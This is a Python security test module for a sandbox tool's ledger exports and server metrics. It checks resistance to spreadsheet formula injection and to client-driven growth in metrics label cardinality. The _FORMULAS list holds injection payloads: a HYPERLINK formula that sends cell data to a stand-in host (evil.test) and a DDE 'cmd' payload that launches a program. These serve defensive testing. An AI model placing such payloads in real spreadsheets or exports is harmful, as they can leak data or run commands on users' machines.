"""OUT: what leaves in tables and in counts has no form and no number that a client chose."""

from __future__ import annotations

import contextlib
import json
import os
from collections.abc import AsyncIterator, Iterator
from importlib.util import find_spec
from typing import TYPE_CHECKING, Any

from cloister.verify.arena import Arena
from cloister.verify.case import NotApplicable, case
from cloister.verify.cases.outside import Said, command_line
from cloister.verify.cases.recorded import expect_holds, ledgers

if TYPE_CHECKING:
    from cloister.server.app import App

# What a spreadsheet would take for something to compute.
_FORMULAS = (
    '=HYPERLINK("http://evil.test/"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
)
_JSON_FORMS = ("jsonl", "ocsf", "otlp")
_NAMES = 300


@case("OUT-05", "words that a spreadsheet would compute", "low")
async def formulas(arena: Arena) -> None:
    with ledgers(arena) as state:
        async with arena.sandbox(ledger="on", label=_FORMULAS[0]) as sandbox:
            await sandbox.run(["/bin/echo", *_FORMULAS])
        expect_holds(arena, state, sandbox.id)
        # Nothing is written as cells, so nothing begins one: whoever makes a table reads JSON.
        said = await command_line("ledger", "export", sandbox.id, "--as", "csv")
        arena.expect(said.code == 2 and not said.stdout, f"cells are written: {said.stdout!r}")
        for form in _JSON_FORMS:
            said = await command_line("ledger", "export", sandbox.id, "--as", form)
            arena.expect(said.code == 0, f"{form} is not written: {said.stderr!r}")
            texts = list(_texts(_documents(said)))
            for formula in _FORMULAS:
                found = any(formula in text for text in texts)
                arena.expect(found, f"{form} does not say {formula!r} as it was")
            begun = [line for line in said.stdout.splitlines() if line[:1] in b"=+-@\t\r"]
            arena.expect(not begun, f"{form} has lines that begin as formulas: {begun[:1]}")


def _documents(said: Said) -> Iterator[Any]:
    for line in said.stdout.splitlines():
        yield json.loads(line)


def _texts(documents: Any) -> Iterator[str]:
    """Every string of a document, wherever it is."""
    for each in documents:
        if isinstance(each, str):
            yield each
        elif isinstance(each, dict):
            yield from _texts(each.values())
        elif isinstance(each, list):
            yield from _texts(each)


@case("OUT-06", "so many names that what counts them is full of them", "medium")
async def many_names(arena: Arena) -> None:
    if find_spec("starlette") is None or find_spec("sqlalchemy") is None:
        raise NotApplicable("metrics are the server's, which is not installed: cloister[server]")
    with ledgers(arena):
        async with _server(arena) as app:
            for number in range(20):
                await _ask(app, "GET", f"/v1/sandboxes/sb_few{number}")
                await _ask(app, "GET", f"/few/{number}")
            few = await _metrics(app)
            for number in range(_NAMES):
                await _ask(app, "GET", f"/v1/sandboxes/sb_{number}", host=f"h{number}.test")
                await _ask(app, f"M{number}", f"/chosen/{number}?q={number}")
            many = await _metrics(app)
    # The twin: they were counted, in the place that was there already.
    arena.expect(_total(many) >= _total(few) + _NAMES, "what was asked has not been counted")
    more = sorted(set(_series(many)) - set(_series(few)))
    arena.expect(not more, f"{len(more)} more series after {_NAMES} names: {more[:3]}")
    arena.expect("chosen" not in many and "sb_" not in many, "a client's word is in a label")


@contextlib.asynccontextmanager
async def _server(arena: Arena) -> AsyncIterator[App]:
    """The server's own application, with a state of its own and no listener."""
    from cloister.server.app import App, open_house
    from cloister.server.settings import Settings

    settings = Settings(socket=arena.canary.directory / "server.sock")
    os.makedirs(os.environ["CLOISTER_STATE"], mode=0o700, exist_ok=True)
    async with open_house(settings) as house:
        yield App(house)


async def _ask(app: App, method: str, path: str, host: str = "localhost") -> tuple[int, bytes]:
    """Ask as the owner does by the unix socket; return the status and the body."""
    path, _, query = path.partition("?")
    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": method,
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "query_string": query.encode(),
        "root_path": "",
        "headers": [(b"host", host.encode())],
        "client": None,
        "server": None,
    }
    told: list[Any] = []

    async def receive() -> dict[str, Any]:
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: Any) -> None:
        told.append(message)

    await app.entrance(trusted=True)(scope, receive, send)
    return told[0]["status"], b"".join(each.get("body", b"") for each in told[1:])


async def _metrics(app: App) -> str:
    status, body = await _ask(app, "GET", "/metrics")
    if status != 200:
        raise NotApplicable(f"the server has no metrics to look at: {status}")
    return body.decode()


def _series(text: str) -> list[str]:
    return [line.rpartition(" ")[0] for line in text.splitlines() if not line.startswith("#")]


def _total(text: str) -> int:
    lines = [line for line in text.splitlines() if line.startswith("cloister_requests_total")]
    return sum(int(line.rpartition(" ")[2]) for line in lines)
